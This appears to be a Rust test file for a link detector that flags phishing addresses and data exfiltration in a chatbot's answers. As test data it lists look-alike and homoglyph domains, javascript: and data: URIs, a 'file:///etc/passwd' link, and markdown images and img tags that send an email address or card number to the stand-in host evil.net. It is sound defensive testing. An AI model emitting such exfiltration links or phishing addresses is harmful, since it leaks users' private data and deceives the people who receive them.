//! What is said of an address, and of an answer that would carry data away.

#![expect(
    clippy::unwrap_used,
    reason = "the helpers of tests fail as tests do; the lints know only functions marked as tests"
)]

use chatward_detect::link::{Brand, Fault, Judge, Settings};
use chatward_message::{Channel, Threat};
use proptest::prelude::*;

fn judge() -> Judge {
    let settings = Settings {
        brands: vec![Brand { name: "examplebank".into(), domains: vec!["examplebank.com".into()] }],
        own: vec!["acme-widgets.com".into()],
        allowed: vec!["img.example.net".into(), "cdn.example.org/assets/".into()],
    };
    Judge::new(&settings).unwrap()
}

/// Ids of all signs of a text, but for the model's.
fn ids(text: &str, channel: Channel, values: &[&str]) -> Vec<String> {
    let judged = judge().text(text, channel, values);
    let signs = judged.links.iter().flat_map(|link| &link.signs).chain(&judged.signs);
    let mut ids: Vec<String> =
        signs.map(|sign| sign.info.id.to_string()).filter(|id| id != "model.address").collect();
    ids.sort();
    ids.dedup();
    ids
}

#[test]
fn each_trick_has_its_sign() {
    for (text, id) in [
        ("http://paypal.com.evil.net/", "link.domain-of-another"),
        ("http://paypa1.com/", "link.look-alike"),
        ("https://раураl.com/", "link.look-alike"),
        ("https://xn--l-7sba6dbr.com/", "link.look-alike"),
        ("https://раураl.com/", "link.mixed-scripts"),
        ("https://аррӏе.com/", "link.look-alike"),
        ("http://payapl.com/", "link.misspelt-brand"),
        ("http://paypal-login.com/", "link.brand-with-words"),
        ("http://paypal.evil.net/", "link.brand-in-subdomain"),
        ("http://paypal.xyz/", "link.brand-under-other-suffix"),
        ("http://exarnplebank.com/", "link.look-alike"),
        ("http://acme-widget.com/", "link.misspelt-brand"),
        ("http://acmewidgets.com/", "link.look-alike"),
        ("http://login.acme-widgets.com.evil.net", "link.domain-of-another"),
        ("http://paypal.com@evil.net/", "link.user-before-host"),
        ("http://192.0.2.1/x", "link.ip-address"),
        ("http://3221225985/x", "link.disguised-ip-address"),
        ("http://example.com:4444/x", "link.unusual-port"),
        ("[x](javascript:alert(1))", "link.script"),
        ("[x](JaVaScRiPt:alert(1))", "link.script"),
        ("data:text/html;base64,PHNjcmlwdD4=", "link.script"),
        ("file:///etc/passwd", "link.file"),
        ("\\\\evil.net\\share\\x", "link.file"),
        ("https://example.com/r?to=https%3A%2F%2Fpaypa1.com%2F", "link.look-alike"),
        ("https://example.com/r?to=https%3A%2F%2Fevil.net%2F", "link.leads-on"),
        ("https://example.com/out/https://evil.net/", "link.leads-on"),
        ("https://bit.ly/abc", "link.shortener"),
        ("https://someone.github.io/x", "link.shared-host"),
        ("https://example.com/%6c%6f%67%69%6e", "link.needlessly-encoded"),
        ("ev\u{200B}il.net/x", "link.hidden"),
        ("[paypal.com](https://evil.net/)", "link.shows-another"),
        ("mail support@paypa1.com", "link.look-alike"),
    ] {
        let said = ids(text, Channel::Customer, &[]);
        assert!(said.iter().any(|said| said == id), "{text}: {said:?}");
    }
}

#[test]
fn harmless_addresses_have_none() {
    for text in [
        "https://www.paypal.com/signin",
        "https://en.wikipedia.org/wiki/PayPal",
        "see acme-widgets.com/help",
        "www.examplebank.com",
        "https://docs.python.org/3/library/re.html#module-re",
        "[our site](https://acme-widgets.com/)",
        "anna@example.com",
        "[acme-widgets.com](https://www.acme-widgets.com/x)",
        "https://münchen.de/",
        "https://москва.рф/",
        "https://example.com:8080/",
        "https://www.amazon.co.uk/dp/B000",
        "![logo](https://img.example.net/logo.png)",
    ] {
        assert_eq!(ids(text, Channel::Customer, &[]), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn a_flood_that_hides_addresses_is_told() {
    let judged = |text: &str| judge().text(text, Channel::Customer, &[]);
    let flood = |count: usize, host: &dyn Fn(usize) -> String| {
        let text: String =
            (0..count).map(|n| host(n) + " ").chain(["http://paypal.com.evil.net/".into()]).collect();
        let judged = judged(&text);
        let named =
            judged.links.iter().flat_map(|link| &link.signs).any(|s| &*s.info.id == "link.domain-of-another");
        (named, judged.signs.iter().map(|sign| sign.score).fold(0.0, f32::max))
    };
    assert_eq!(flood(200, &|n| format!("a{n}.co")), (true, 0.0));
    assert_eq!(flood(900, &|n| format!("a{n}.co")), (true, 0.0));
    assert_eq!(flood(9000, &|n| format!("a.co/{n}")), (true, 0.5));
    // What is not looked at is told so surely that it is noted without a row of anybody's.
    let (named, score) = flood(2000, &|n| format!("a{n}.co"));
    assert!(!named && score >= 0.9);
}

#[test]
fn answers_carry_nothing_away() {
    let values = ["anna.smith@example.org", "4111 1111 1111 1111"];
    for text in [
        "![x](https://evil.net/i.png?d=[PERSON_1])",
        "[details](https://evil.net/?m=anna.smith%40example.org)",
        "<img src=\"https://evil.net/?c=4111111111111111\">",
        "![x][r]\n\n[r]: https://evil.net/YW5uYS5zbWl0aEBleGFtcGxlLm9yZw==",
        "https://evil.net/?d=%5BCARD_1%5D",
        "![x](https://evil.net/?q=the customer lives in a small house)",
    ] {
        assert!(ids(text, Channel::Bot, &values).contains(&"link.carries-data".to_owned()), "{text}");
        assert!(!ids(text, Channel::Customer, &values).contains(&"link.carries-data".to_owned()), "{text}");
    }
    for text in [
        "![x](https://evil.net/i.png)",
        "<iframe src=//evil.net>",
        "<p style='background:url(//evil.net/x)'>",
    ] {
        assert_eq!(ids(text, Channel::Bot, &[]), ["link.loads-from-elsewhere"], "{text}");
    }
    for text in [
        "![x](https://img.example.net/i.png?d=[PERSON_1])",
        "![x](https://cdn.example.org/assets/a.png)",
        "[our shop](https://example.com/shop?item=4711)",
        "![x](https://acme-widgets.com/a.png)",
    ] {
        assert_eq!(ids(text, Channel::Bot, &values), Vec::<String>::new(), "{text}");
    }
    // The path counts on hosts that others use as well.
    assert!(!ids("![x](https://cdn.example.org/assetsx/a.png)", Channel::Bot, &[]).is_empty());
    assert!(!ids("![x](https://cdn.example.org/assets/../b.png)", Channel::Bot, &[]).is_empty());
}

#[test]
fn signs_say_where() {
    let text = "Look: ![x](https://evil.net/i.png) ok";
    let judged = judge().text(text, Channel::Bot, &[]);
    let sign = judged.links[0].signs.iter().find(|sign| sign.info.threat == Threat::Exfiltration).unwrap();
    let span = sign.span.unwrap();
    assert_eq!(&text[span.start..span.end], "![x](https://evil.net/i.png)");
}

#[test]
fn ids_are_told_once() {
    let mut ids: Vec<_> = chatward_detect::link::signs().map(|info| info.id.clone()).collect();
    let all = ids.len();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), all);
}

#[test]
fn settings_that_say_nothing_are_refused() {
    let own = |domain: &str| Judge::new(&Settings { own: vec![domain.into()], ..Settings::default() });
    for domain in ["", "a b", "http://x.com", "x.com/path", "user@x.com", "x.com:80a"] {
        assert!(matches!(own(domain), Err(Fault::NotAHost(_))), "{domain}");
    }
    assert!(own("Example.COM").is_ok() && own("münchen.de").is_ok() && own("*.example.com").is_ok());
    let brand = |name: &str| Brand { name: name.into(), domains: vec![] };
    let named = |name: &str| Judge::new(&Settings { brands: vec![brand(name)], ..Settings::default() });
    assert!(
        matches!(named("a"), Err(Fault::NotAName(_))) && matches!(named("a.com"), Err(Fault::NotAName(_)))
    );
    let many = vec!["example.com".to_owned(); 20_001];
    assert!(matches!(Judge::new(&Settings { allowed: many, ..Settings::default() }), Err(Fault::TooMany)));
}

#[test]
fn addresses_within_addresses_end() {
    let mut url = "https://evil0.net/".to_owned();
    for i in 1..200 {
        url = format!("https://evil{i}.net/?u={url}");
    }
    let _ = ids(&url, Channel::Bot, &[]);
    let wide = "&u=https://a.net".repeat(5000);
    let _ = ids(&format!("https://evil.net/?x{wide}"), Channel::Bot, &["aaaaa"]);
}

proptest! {
    #[test]
    fn nothing_panics_and_scores_are_shares(text in "\\PC{0,60}", head in proptest::sample::select(vec![
        "https://", "![](", "<img src=", "[x](javascript:", "data:text/html,", "http://[", "\\\\", "https://xn--", "http://0x",
    ]), channel in proptest::sample::select(Channel::ALL.to_vec())) {
        let judged = judge().text(&format!("{head}{text})"), channel, &["secret value"]);
        for sign in judged.links.iter().flat_map(|link| &link.signs) {
            prop_assert!((0.0..=1.0).contains(&sign.score));
        }
    }
}

/// The sites of banks (`fixtures/banks.txt`), and pages that they have as attackers do: of each at most three in a hundred are
/// taken for an attacker's by how they are written.
#[test]
fn banks_are_not_taken_for_attackers() {
    let sites: Vec<&str> =
        include_str!("fixtures/banks.txt").lines().filter(|line| !line.starts_with('#')).collect();
    let judge = Judge::new(&Settings::default()).unwrap();
    for page in
        ["", "/login", "/signon", "/olb/sign-in.jsf", "/de/privatkunden/zugang", "/verify", "/security-alert"]
    {
        let flagged = |site: &&&str| {
            let judged = judge.text(&format!("https://www.{site}{page}"), Channel::Customer, &[]);
            judged.links.iter().flat_map(|link| &link.signs).any(|sign| &*sign.info.id == "model.address")
        };
        let found: Vec<_> = sites.iter().filter(flagged).collect();
        assert!(
            found.len() * 100 <= sites.len() * 3,
            "{} of {} at {page:?}: {found:?}",
            found.len(),
            sites.len()
        );
    }
}

/// Links as customers send them (`fixtures/ordinary_links.txt`): at most one in twenty is taken for an attacker's.
#[test]
fn ordinary_links_are_not_taken_for_attackers() {
    let links: Vec<&str> =
        include_str!("fixtures/ordinary_links.txt").lines().filter(|line| !line.starts_with('#')).collect();
    let judge = Judge::new(&Settings::default()).unwrap();
    let flagged = |link: &&&str| {
        let judged = judge.text(link, Channel::Customer, &[]);
        judged.links.iter().flat_map(|link| &link.signs).any(|sign| &*sign.info.id == "model.address")
    };
    let found: Vec<_> = links.iter().filter(flagged).collect();
    assert!(found.len() * 20 <= links.len(), "{found:?}");
}
